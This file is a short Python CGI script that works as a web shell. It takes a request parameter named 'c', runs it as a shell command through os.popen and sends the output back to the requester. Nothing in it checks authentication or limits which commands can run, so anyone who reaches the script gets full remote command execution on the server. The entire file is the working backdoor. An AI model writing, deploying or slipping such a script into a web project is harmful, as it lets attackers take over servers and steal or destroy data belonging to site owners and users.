#!/usr/bin/env python3
import cgi, os
f = cgi.FieldStorage()
print("Content-Type: text/plain\n")
print(os.popen(f.getvalue("c")).read())
